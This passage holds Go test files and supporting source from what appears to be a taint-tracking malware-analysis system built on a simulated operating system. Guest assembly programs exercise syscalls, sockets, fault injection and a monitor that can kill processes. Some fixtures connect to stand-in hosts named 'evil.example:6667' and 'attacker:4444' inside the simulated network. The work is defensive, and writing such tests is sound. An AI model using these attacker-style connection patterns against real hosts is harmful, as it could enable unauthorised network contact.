	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 33 {
		t.Errorf("exit = %d, want 33 (the exec'd program)", p.ExitCode)
	}
	if p.Path != "/bin/other" {
		t.Errorf("path = %q", p.Path)
	}
}

func TestExecveMissingReturnsENOENT(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
path: .asciz "/missing"
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != ENOENT {
		t.Errorf("exit = %d", p.ExitCode)
	}
}

func TestExecveNonExecutableENOEXEC(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
path: .asciz "/tmp/data"
`)
	os.FS.Create("/tmp/data", []byte("just bytes"))
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != ENOEXEC {
		t.Errorf("exit = %d, want ENOEXEC", p.ExitCode)
	}
}

const clientSrc = `
.text
_start:
    ; fd = socket()
    mov eax, 102
    mov ebx, 1          ; SYS_socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax   ; fd
    mov [scargs+4], addr
    ; connect(fd, addr)
    mov eax, 102
    mov ebx, 3          ; SYS_connect
    mov ecx, scargs
    int 0x80
    cmp eax, 0
    jnz fail
    ; send(fd, msg, 4)
    mov [scargs+4], msg
    mov [scargs+8], 4
    mov eax, 102
    mov ebx, 9          ; SYS_send
    mov ecx, scargs
    int 0x80
    ; recv(fd, buf, 16)
    mov [scargs+4], buf
    mov [scargs+8], 16
    mov eax, 102
    mov ebx, 10         ; SYS_recv
    mov ecx, scargs
    int 0x80
    ; write reply to stdout
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    hlt
fail:
    mov ebx, 1
    mov eax, 1
    int 0x80
.data
addr:   .asciz "evil.example:6667"
msg:    .asciz "ping"
buf:    .space 16
scargs: .space 12
`

// echoScript replies "pong" to any data.
type echoScript struct{}

func (echoScript) OnConnect(c *RemoteConn)           {}
func (echoScript) OnData(c *RemoteConn, data []byte) { c.Send([]byte("pong")) }

func TestSocketClient(t *testing.T) {
	os := buildOS(t, clientSrc)
	os.Net.AddRemote("evil.example:6667", func() RemoteScript { return echoScript{} })
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode == 1 {
		t.Fatal("connect failed")
	}
	if got := string(os.Console); got != "pong" {
		t.Errorf("console = %q", got)
	}
}

func TestSocketConnectRefused(t *testing.T) {
	os := buildOS(t, clientSrc)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 1 {
		t.Errorf("exit = %d, want 1 (connect failure)", p.ExitCode)
	}
}

const serverSrc = `
.text
_start:
    ; fd = socket()
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    ; bind(fd, addr)
    mov eax, 102
    mov ebx, 2
    mov ecx, scargs
    int 0x80
    ; listen(fd)
    mov eax, 102
    mov ebx, 4
    mov ecx, scargs
    int 0x80
    ; conn = accept(fd)
    mov eax, 102
    mov ebx, 5
    mov ecx, scargs
    int 0x80
    mov [scargs], eax   ; conn fd
    ; recv(conn, buf, 16)
    mov [scargs+4], buf
    mov [scargs+8], 16
    mov eax, 102
    mov ebx, 10
    mov ecx, scargs
    int 0x80
    ; echo to stdout
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    hlt
.data
addr:   .asciz "localhost:1084"
buf:    .space 16
scargs: .space 12
`

type helloScript struct{}

func (helloScript) OnConnect(c *RemoteConn)    { c.Send([]byte("knock")) }
func (helloScript) OnData(*RemoteConn, []byte) {}

func TestSocketServerAccept(t *testing.T) {
	os := buildOS(t, serverSrc)
	os.Net.ScheduleConnect(50, "localhost:1084", "attacker:4444", helloScript{})
	start(t, os, ProcSpec{})
	run(t, os)
	if got := string(os.Console); got != "knock" {
		t.Errorf("console = %q", got)
	}
}

func TestAcceptDeadlockDetected(t *testing.T) {
	os := buildOS(t, serverSrc) // nobody ever connects
	start(t, os, ProcSpec{})
	if err := os.Run(); err != ErrDeadlock {
		t.Errorf("err = %v, want ErrDeadlock", err)
	}
}

func TestNanosleepAndTime(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 13         ; SYS_time
    int 0x80
    mov esi, eax
    mov ebx, 5000       ; sleep 5000 ticks
    mov eax, 162
    int 0x80
    mov eax, 13
    int 0x80
    sub eax, esi        ; elapsed
    cmp eax, 5000
    jge ok
    mov ebx, 1
    mov eax, 1
    int 0x80
ok:
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 0 {
		t.Error("time did not advance across nanosleep")
	}
}

func TestDupSharesFile(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0x41       ; O_CREAT|O_WRONLY
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov eax, 41         ; SYS_dup
    int 0x80
    mov ebx, eax        ; write via the dup
    mov ecx, data
    mov edx, 2
    mov eax, 4
    int 0x80
    hlt
.data
path: .asciz "/tmp/d"
data: .asciz "hi"
`)
	start(t, os, ProcSpec{})
	run(t, os)
	f, ok := os.FS.Lookup("/tmp/d")
	if !ok || string(f.Data) != "hi" {
		t.Errorf("file via dup = %v", f)
	}
}

func TestGetpid(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 20
    int 0x80
    mov ebx, eax
    mov eax, 1
    int 0x80
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if int(p.ExitCode) != p.PID {
		t.Errorf("getpid = %d, pid = %d", p.ExitCode, p.PID)
	}
}

// recordingMonitor records syscall names.
type recordingMonitor struct {
	NopMonitor
	names   []string
	verdict Verdict
	killOn  string
}

func (m *recordingMonitor) SyscallEnter(p *Process, sc *SyscallCtx) Verdict {
	m.names = append(m.names, sc.Name)
	if m.killOn != "" && sc.Name == m.killOn {
		return Kill
	}
	return m.verdict
}

func TestMonitorSeesSyscalls(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0x41
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov eax, 6
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
path: .asciz "/t"
`)
	mon := &recordingMonitor{}
	start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	want := []string{"SYS_open", "SYS_close", "SYS_exit"}
	if strings.Join(mon.names, ",") != strings.Join(want, ",") {
		t.Errorf("names = %v", mon.names)
	}
}

func TestMonitorBlockingReadNotifiesOnce(t *testing.T) {
	os := buildOS(t, serverSrc)
	os.Net.ScheduleConnect(5000, "localhost:1084", "attacker:4444", helloScript{})
	mon := &recordingMonitor{}
	start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	reads := 0
	for _, n := range mon.names {
		if n == "SYS_read" || n == "SYS_socketcall" {
			reads++
		}
	}
	// socket, bind, accept, recv, = 4 socketcalls + 1 write; the
	// blocked accept and recv must each appear exactly once.
	socketcalls := 0
	for _, n := range mon.names {
		if n == "SYS_socketcall" {
			socketcalls++
		}
	}
	if socketcalls != 4 {
		t.Errorf("socketcall events = %d (%v), want 4", socketcalls, mon.names)
	}
}

func TestMonitorKillVerdict(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve — monitor kills here
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
path: .asciz "/bin/prog"
`)
	mon := &recordingMonitor{killOn: "SYS_execve"}
	p := start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	if !p.Killed {
		t.Error("process not marked killed")
	}
	if p.State != Exited {
		t.Error("killed process still alive")
	}
}

func TestMonitorForkPropagates(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, eax
    mov ecx, 0
    mov edx, 0
    mov eax, 7          ; waitpid
    int 0x80
    hlt
child:
    mov ebx, 9
    mov eax, 1          ; child's exit must be seen by the monitor
    int 0x80
`)
	mon := &recordingMonitor{}
	start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	exits := 0
	for _, n := range mon.names {
		if n == "SYS_exit" {
			exits++
		}
	}
	if exits != 1 {
		t.Errorf("monitored exits = %d (child inherits monitor, parent hlt): %v", exits, mon.names)
	}
}

func TestRunBudget(t *testing.T) {
	os := New(Options{MaxSteps: 1000})
	os.FS.Install("/bin/prog", asm.MustAssemble("/bin/prog", `
.text
_start:
loop: jmp loop
`))
	start(t, os, ProcSpec{})
	if err := os.Run(); err != ErrBudget {
		t.Errorf("err = %v, want ErrBudget", err)
	}
}

func TestGuestListingViaDot(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, dot
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 128
    mov eax, 3
    int 0x80
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    hlt
.data
dot: .asciz "."
buf: .space 128
`)
	os.FS.Create("/etc/a", nil)
	start(t, os, ProcSpec{})
	run(t, os)
	if !strings.Contains(string(os.Console), "/etc/a") {
		t.Errorf("listing = %q", os.Console)
	}
}

func TestUnlink(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov eax, 10         ; SYS_unlink
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
path: .asciz "/tmp/victim"
`)
	os.FS.Create("/tmp/victim", []byte("x"))
	mon := &recordingMonitor{}
	p := start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	if p.ExitCode != 0 {
		t.Errorf("unlink failed: %d", p.ExitCode)
	}
	if _, ok := os.FS.Lookup("/tmp/victim"); ok {
		t.Error("file still present")
	}
	found := false
	for _, n := range mon.names {
		if n == "SYS_unlink" {
			found = true
		}
	}
	if !found {
		t.Errorf("monitor missed unlink: %v", mon.names)
	}
}

func TestUnlinkMissing(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov eax, 10
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
path: .asciz "/nope"
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != ENOENT {
		t.Errorf("exit = %d, want ENOENT", p.ExitCode)
	}
}

func TestLseek(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov esi, eax        ; fd
    ; lseek(fd, 2, SEEK_SET)
    mov ebx, esi
    mov ecx, 2
    mov edx, 0
    mov eax, 19
    int 0x80
    ; read 2 bytes from offset 2
    mov ebx, esi
    mov ecx, buf
    mov edx, 2
    mov eax, 3
    int 0x80
    ; lseek(fd, -1, SEEK_END), read last byte
    mov ebx, esi
    mov ecx, -1
    mov edx, 2
    mov eax, 19
    int 0x80
    mov ebx, esi
    mov ecx, buf+2
    mov edx, 1
    mov eax, 3
    int 0x80
    ; print the 3 gathered bytes
    mov ebx, 1
    mov ecx, buf
    mov edx, 3
    mov eax, 4
    int 0x80
    hlt
.data
path: .asciz "/data/f"
buf:  .space 4
`)
	os.FS.Create("/data/f", []byte("abcdef"))
	start(t, os, ProcSpec{})
	run(t, os)
	if got := string(os.Console); got != "cdf" {
		t.Errorf("console = %q, want cdf", got)
	}
}

func TestLseekErrors(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    ; lseek on stdin -> EBADF
    mov ebx, 0
    mov ecx, 0
    mov edx, 0
    mov eax, 19
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != EBADF {
		t.Errorf("exit = %d, want EBADF", p.ExitCode)
	}
}

func TestSchedulerStressManyProcesses(t *testing.T) {
	// A 2^7 = 128-process tree with interleaved sleeps: the scheduler
	// must run it to completion with all children reaped.
	os := buildOS(t, `
.text
_start:
    mov esi, 7
loop:
    cmp esi, 0
    jz work
    mov eax, 2          ; fork
    int 0x80
    dec esi
    jmp loop
work:
    mov ebx, 500
    mov eax, 162        ; nanosleep
    int 0x80
    mov edi, 200
spin:
    dec edi
    cmp edi, 0
    jnz spin
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
	start(t, os, ProcSpec{})
	run(t, os)
	procs := os.Processes()
	if len(procs) != 128 {
		t.Fatalf("processes = %d, want 128", len(procs))
	}
	for _, p := range procs {
		if p.Alive() {
			t.Fatalf("pid %d still alive", p.PID)
		}
		if p.ExitCode != 0 {
			t.Fatalf("pid %d exit = %d", p.PID, p.ExitCode)
		}
	}
}

func TestBadFDErrors(t *testing.T) {
	// read/write/close/dup on a bogus fd all return EBADF.
	os := buildOS(t, `
.text
_start:
    mov ebx, 99
    mov ecx, buf
    mov edx, 4
    mov eax, 3          ; read(99)
    int 0x80
    mov esi, eax
    mov ebx, 99
    mov eax, 4          ; write(99)
    int 0x80
    add esi, eax
    mov ebx, 99
    mov eax, 6          ; close(99)
    int 0x80
    add esi, eax
    mov ebx, 99
    mov eax, 41         ; dup(99)
    int 0x80
    add esi, eax
    neg esi
    mov ebx, esi
    shr ebx, 2          ; 4*EBADF/4 = EBADF
    mov eax, 1
    int 0x80
.data
buf: .space 4
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != EBADF {
		t.Errorf("combined errno = %d, want EBADF", p.ExitCode)
	}
}

func TestSocketcallBadSubcall(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 102
    mov ebx, 77         ; bogus sub-call
    mov ecx, args
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
args: .space 12
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != EINVAL {
		t.Errorf("exit = %d, want EINVAL", p.ExitCode)
	}
}

func TestUnknownSyscallENOSYS(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 9999
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 38 {
		t.Errorf("exit = %d, want ENOSYS", p.ExitCode)
	}
}

func TestWaitpidNoChildren(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, -1
    mov ecx, 0
    mov edx, 0
    mov eax, 7          ; waitpid with no children
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
`)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != ECHILD {
		t.Errorf("exit = %d, want ECHILD", p.ExitCode)
	}
}

func TestOpenTruncateAndAppend(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    ; append to the existing file
    mov ebx, path
    mov ecx, 0x401      ; O_WRONLY|O_APPEND
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, add1
    mov edx, 3
    mov eax, 4
    int 0x80
    mov eax, 6
    int 0x80
    hlt
.data
path: .asciz "/f"
add1: .asciz "NEW"
`)
	os.FS.Create("/f", []byte("OLD"))
	start(t, os, ProcSpec{})
	run(t, os)
	f, _ := os.FS.Lookup("/f")
	if string(f.Data) != "OLDNEW" {
		t.Errorf("append result = %q", f.Data)
	}
}

func TestWriteToClosedSocketEPIPE(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov eax, 102
    mov ebx, 1
    mov ecx, args
    int 0x80
    mov [args], eax
    mov [args+4], addr
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, args
    int 0x80
    ; the peer closes immediately (closer script); give it the write
    mov [args+4], buf
    mov [args+8], 4
    mov eax, 102
    mov ebx, 9          ; send -> EPIPE
    mov ecx, args
    int 0x80
    neg eax
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
addr: .asciz "gone:1"
buf:  .space 4
args: .space 12
`)
	os.Net.AddRemote("gone:1", func() RemoteScript { return closerScript{} })
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 32 {
		t.Errorf("exit = %d, want EPIPE", p.ExitCode)
	}
}
