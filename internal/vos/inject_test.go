package vos

import (
	"testing"
	"time"
)

// stubInjector is a hand-driven FaultInjector for vos-level tests (the
// real injector lives in internal/chaos, which imports this package).
type stubInjector struct {
	failNum   uint32 // fail syscalls with this number...
	failErrno uint32 // ...with this errno
	clamp     uint32 // clamp completing reads to this many bytes, 0 = off
	dropConns bool   // drop every scheduled inbound connection
	delay     uint64 // delay scheduled inbound connections once
	dropData  bool   // drop every remote response
	points    []FaultPoint
}

func (s *stubInjector) SyscallFault(fp FaultPoint) (uint32, bool) {
	s.points = append(s.points, fp)
	if s.failNum != 0 && fp.Num == s.failNum {
		return s.failErrno, true
	}
	return 0, false
}

func (s *stubInjector) ShortRead(fp FaultPoint, want uint32) uint32 {
	if s.clamp > 0 && s.clamp < want {
		return s.clamp
	}
	return want
}

func (s *stubInjector) ScheduledConnect(clock uint64, addr string) (uint64, bool) {
	if s.dropConns {
		return 0, true
	}
	d := s.delay
	s.delay = 0
	return d, false
}

func (s *stubInjector) DropRemote(addr string, n int) bool { return s.dropData }

const readFileSrc = `
.text
_start:
    mov ebx, path
    mov ecx, 0          ; O_RDONLY
    mov eax, 5          ; SYS_open
    int 0x80
    cmp eax, 0
    jl fail
    mov ebx, eax
    mov ecx, buf
    mov edx, 16
    mov eax, 3          ; SYS_read
    int 0x80
    cmp eax, 0
    jl fail
    mov ebx, eax        ; exit code = bytes read
    mov eax, 1
    int 0x80
fail:
    mov ebx, 77         ; exit code 77 = syscall failed
    mov eax, 1
    int 0x80
.data
path: .asciz "/t"
buf:  .space 16
`

func TestInjectedReadError(t *testing.T) {
	os := buildOS(t, readFileSrc)
	os.FS.Create("/t", []byte("abcdefgh"))
	inj := &stubInjector{failNum: SysRead, failErrno: EIO}
	os.SetInjector(inj)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 77 {
		t.Errorf("exit = %d, want 77 (read failed with EIO)", p.ExitCode)
	}
	// The injector saw the open and the read as distinct points with
	// the right identifying fields.
	var sawOpen, sawRead bool
	for _, fp := range inj.points {
		switch fp.Num {
		case SysOpen:
			sawOpen = fp.Path == "/t"
		case SysRead:
			sawRead = fp.FD >= 0
		}
	}
	if !sawOpen || !sawRead {
		t.Errorf("fault points = %+v", inj.points)
	}
}

func TestInjectedShortRead(t *testing.T) {
	os := buildOS(t, readFileSrc)
	os.FS.Create("/t", []byte("abcdefgh"))
	os.SetInjector(&stubInjector{clamp: 3})
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 3 {
		t.Errorf("exit = %d, want 3 (clamped read)", p.ExitCode)
	}
}

func TestNilInjectorUnchanged(t *testing.T) {
	os := buildOS(t, readFileSrc)
	os.FS.Create("/t", []byte("abcdefgh"))
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 8 {
		t.Errorf("exit = %d, want 8 (full read)", p.ExitCode)
	}
}

func TestOpenFDBudgetEMFILE(t *testing.T) {
	// Opens the same file six times, counting successes in esi; the
	// first failure breaks out. Exit code = successful opens.
	os := buildOS(t, `
.text
_start:
    mov esi, 0
loop:
    mov ebx, path
    mov ecx, 0
    mov eax, 5          ; SYS_open
    int 0x80
    cmp eax, 0
    jl done
    inc esi
    cmp esi, 6
    jl loop
done:
    mov ebx, esi
    mov eax, 1
    int 0x80
.data
path: .asciz "/t"
`)
	os.FS.Create("/t", []byte("x"))
	// stdin/stdout/stderr occupy three slots; budget 5 leaves two.
	os.SetMaxOpenFDs(5)
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 2 {
		t.Errorf("exit = %d, want 2 opens before EMFILE", p.ExitCode)
	}
}

func TestFDBudgetDefaultGenerous(t *testing.T) {
	os := buildOS(t, readFileSrc)
	os.FS.Create("/t", []byte("hi"))
	if os.maxOpenFDs() != DefaultMaxOpenFDs {
		t.Fatalf("default budget = %d", os.maxOpenFDs())
	}
	os.SetMaxOpenFDs(-1) // explicit opt-out
	if os.maxOpenFDs() != -1 {
		t.Fatal("opt-out ignored")
	}
	p := start(t, os, ProcSpec{})
	run(t, os)
	if p.ExitCode != 2 {
		t.Errorf("exit = %d", p.ExitCode)
	}
}

func TestWallClockDeadline(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    jmp _start
`)
	os.SetMaxSteps(1 << 62) // only the deadline can stop this guest
	os.SetDeadline(20 * time.Millisecond)
	start(t, os, ProcSpec{})
	if err := os.Run(); err != ErrDeadline {
		t.Errorf("err = %v, want ErrDeadline", err)
	}
}

func TestDroppedInboundConnection(t *testing.T) {
	os := buildOS(t, serverSrc)
	os.Net.ScheduleConnect(50, "localhost:1084", "attacker:4444", helloScript{})
	os.SetInjector(&stubInjector{dropConns: true})
	start(t, os, ProcSpec{})
	// The only peer never arrives: the blocked accept is a deadlock,
	// reported as a structured outcome rather than a hang.
	if err := os.Run(); err != ErrDeadlock {
		t.Errorf("err = %v, want ErrDeadlock", err)
	}
}

func TestDelayedInboundConnection(t *testing.T) {
	os := buildOS(t, serverSrc)
	os.Net.ScheduleConnect(50, "localhost:1084", "attacker:4444", helloScript{})
	os.SetInjector(&stubInjector{delay: 3000})
	start(t, os, ProcSpec{})
	run(t, os)
	if got := string(os.Console); got != "knock" {
		t.Errorf("console = %q (delayed connection lost?)", got)
	}
	if os.Clock < 3000 {
		t.Errorf("clock = %d, want >= 3000 (delay not applied)", os.Clock)
	}
}

func TestDroppedRemoteResponse(t *testing.T) {
	os := buildOS(t, clientSrc)
	os.Net.AddRemote("evil.example:6667", func() RemoteScript { return echoScript{} })
	os.SetInjector(&stubInjector{dropData: true})
	start(t, os, ProcSpec{})
	// The echo reply is lost in flight; the guest blocks in recv on a
	// connection that stays open, which the scheduler reports as a
	// deadlock instead of spinning forever.
	if err := os.Run(); err != ErrDeadlock {
		t.Errorf("err = %v, want ErrDeadlock", err)
	}
}

// TestHugeWriteBounded reproduces the errno-as-length accident: a
// guest whose read failed (e.g. under fault injection) passes the
// negative result straight to write as the byte count, requesting a
// ~4 GiB transfer. The kernel must clamp the request (MaxRWCount) and
// the console budget must bound what is retained, so one injected
// fault cannot balloon host memory.
func TestHugeWriteBounded(t *testing.T) {
	os := buildOS(t, `
.text
_start:
    mov ebx, 1
    mov ecx, buf
    mov edx, 0xfffffff0 ; a negative errno reused as a length
    mov eax, 4          ; SYS_write
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
buf: .space 4
`)
	os.SetMaxConsoleBytes(4096)
	start(t, os, ProcSpec{})
	run(t, os)
	if len(os.Console) != 4096 {
		t.Errorf("console holds %d bytes, want the 4096 budget", len(os.Console))
	}
	if want := uint64(MaxRWCount - 4096); os.ConsoleDropped != want {
		t.Errorf("dropped = %d, want %d (clamped write minus budget)", os.ConsoleDropped, want)
	}
}

// killOnSock kills the guest at the first socketcall event whose
// sub-operation matches.
type killOnSock struct {
	NopMonitor
	call  uint32
	names []string
}

func (m *killOnSock) SyscallEnter(p *Process, sc *SyscallCtx) Verdict {
	m.names = append(m.names, sc.Name)
	if sc.Sock != nil && sc.Sock.Call == m.call {
		return Kill
	}
	return Continue
}

// TestKillWhileBlockedInRecv kills at the recv event. The remote's
// bytes are already buffered when recv runs, so this covers the
// immediate-attempt path inside block(): the kill lands while the
// syscall completes inline and the quantum must stop on the spot.
func TestKillWhileBlockedInRecv(t *testing.T) {
	os := buildOS(t, serverSrc)
	os.Net.ScheduleConnect(5000, "localhost:1084", "attacker:4444", helloScript{})
	mon := &killOnSock{call: SockRecv}
	p := start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	if p.State != Exited || !p.Killed {
		t.Fatalf("state=%v killed=%v, want killed exit", p.State, p.Killed)
	}
	if got := string(os.Console); got != "" {
		t.Errorf("console = %q, want nothing after kill", got)
	}
	// All descriptors of the killed process are closed.
	if len(p.FDs) != 0 {
		t.Errorf("%d descriptors leaked past termination", len(p.FDs))
	}
}

// TestKillWhileBlockedInAccept exercises the unblock-into-exited
// path: the guest blocks in accept until the scheduled peer dials at
// virtual time 5000, the monitor's verdict on the completing event is
// Kill, and the exited state must survive the scheduler's unblock
// handling (this test caught the quantum re-terminating the process
// as a clean exit and overwriting the kill).
func TestKillWhileBlockedInAccept(t *testing.T) {
	os := buildOS(t, serverSrc)
	os.Net.ScheduleConnect(5000, "localhost:1084", "attacker:4444", helloScript{})
	mon := &killOnSock{call: SockAccept}
	p := start(t, os, ProcSpec{Monitor: mon, Store: newStore()})
	run(t, os)
	if p.State != Exited || !p.Killed {
		t.Fatalf("state=%v killed=%v, want killed exit", p.State, p.Killed)
	}
}
