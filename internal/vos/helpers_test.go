package vos

import "repro/internal/taint"

func newStore() *taint.Store { return taint.NewStore() }

// closerScript closes the connection the moment it is established.
type closerScript struct{}

func (closerScript) OnConnect(c *RemoteConn)    { c.Close() }
func (closerScript) OnData(*RemoteConn, []byte) {}
