package vos

import (
	"repro/internal/taint"
)

// FDKind classifies a file descriptor.
type FDKind uint8

// File descriptor kinds.
const (
	FDFile FDKind = iota
	FDSock
	FDListener
	FDStdin
	FDStdout
	FDStderr
)

// String names the kind.
func (k FDKind) String() string {
	switch k {
	case FDFile:
		return "file"
	case FDSock:
		return "socket"
	case FDListener:
		return "listener"
	case FDStdin:
		return "stdin"
	case FDStdout:
		return "stdout"
	case FDStderr:
		return "stderr"
	}
	return "?"
}

// FDesc is one open descriptor. dup() copies the descriptor; copies
// share the underlying file or connection but not the offset (a
// simplification of POSIX open-file descriptions that the corpus does
// not depend on).
type FDesc struct {
	Kind     FDKind
	Path     string // file path or socket address (resource name)
	file     *File
	off      int
	conn     *Conn
	listener *Listener
	flags    uint32

	// OriginTag is the taint tag of the resource's *name* at the time
	// the resource was opened (paper §5.1: the "resource ID data
	// source") — e.g. BINARY:/bin/trojan for a hardcoded file name.
	OriginTag taint.Tag

	// Server marks sockets obtained by accepting on a listener the
	// guest itself bound: the program "has opened a socket for remote
	// connections" (paper §8.3.6 warning text).
	Server bool
	// ServerAddr is the listening address for accepted sockets.
	ServerAddr string
	// ServerOriginTag is the taint tag of the *listener's* bound
	// address name.
	ServerOriginTag taint.Tag
}

// ResourceType returns the taint source type this descriptor's data
// carries when read: FILE, SOCKET or USER_INPUT.
func (fd *FDesc) ResourceType() taint.SourceType {
	switch fd.Kind {
	case FDFile:
		return taint.File
	case FDSock, FDListener:
		return taint.Socket
	case FDStdin:
		return taint.UserInput
	case FDStdout, FDStderr:
		return taint.File // writes to stdio are file-typed targets
	}
	return taint.Unknown
}

// ResourceName returns the resource identity for events and taint
// sources: path for files, peer address for sockets, "stdin"/"stdout"
// for the standard streams.
func (fd *FDesc) ResourceName() string {
	switch fd.Kind {
	case FDSock:
		if fd.conn != nil {
			return fd.conn.RemoteAddr
		}
		return fd.Path
	case FDListener:
		return fd.Path
	case FDStdin:
		return "stdin"
	case FDStdout:
		return "stdout"
	case FDStderr:
		return "stderr"
	}
	return fd.Path
}

// Source returns the taint source applied to data read through this
// descriptor.
func (fd *FDesc) Source() taint.Source {
	return taint.Source{Type: fd.ResourceType(), Name: fd.ResourceName()}
}

// clone duplicates the descriptor for dup()/fork().
func (fd *FDesc) clone() *FDesc {
	cp := *fd
	return &cp
}
