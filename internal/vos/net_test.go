package vos

import (
	"testing"
)

type echoRemote struct{ greeted bool }

func (e *echoRemote) OnConnect(c *RemoteConn) {
	e.greeted = true
	c.Send([]byte("hi"))
}
func (e *echoRemote) OnData(c *RemoteConn, data []byte) { c.Send(data) }

func TestNetworkResolveHost(t *testing.T) {
	n := NewNetwork()
	n.AddHost("mail.example", "10.0.0.9")
	if a, ok := n.ResolveHost("mail.example"); !ok || a != "10.0.0.9" {
		t.Errorf("resolve = %q, %v", a, ok)
	}
	if a, ok := n.ResolveHost("localhost"); !ok || a != "127.0.0.1" {
		t.Errorf("localhost = %q", a)
	}
	// Numeric addresses resolve to themselves.
	if a, ok := n.ResolveHost("1.2.3.4"); !ok || a != "1.2.3.4" {
		t.Errorf("numeric = %q", a)
	}
	if _, ok := n.ResolveHost("nope.example"); ok {
		t.Error("unknown host resolved")
	}
	if _, ok := n.ResolveHost(""); ok {
		t.Error("empty host resolved")
	}
}

func TestNetworkConnectToRemote(t *testing.T) {
	n := NewNetwork()
	script := &echoRemote{}
	n.AddRemote("svc:80", func() RemoteScript { return script })
	conn, err := n.Connect("svc:80")
	if err != nil {
		t.Fatal(err)
	}
	if !script.greeted {
		t.Error("OnConnect not called")
	}
	if !conn.Readable() || string(conn.Read(16)) != "hi" {
		t.Error("greeting not delivered")
	}
	// Echo round trip.
	conn.Write([]byte("ping"))
	if got := string(conn.Read(16)); got != "ping" {
		t.Errorf("echo = %q", got)
	}
}

func TestNetworkConnectRefused(t *testing.T) {
	n := NewNetwork()
	if _, err := n.Connect("nobody:1"); err == nil {
		t.Error("connect to nothing succeeded")
	}
}

func TestNetworkBindConflict(t *testing.T) {
	n := NewNetwork()
	if _, err := n.Bind("host:1"); err != nil {
		t.Fatal(err)
	}
	if _, err := n.Bind("host:1"); err == nil {
		t.Error("double bind succeeded")
	}
	n.Unbind("host:1")
	if _, err := n.Bind("host:1"); err != nil {
		t.Error("rebind after unbind failed")
	}
}

func TestNetworkGuestToGuestConnect(t *testing.T) {
	n := NewNetwork()
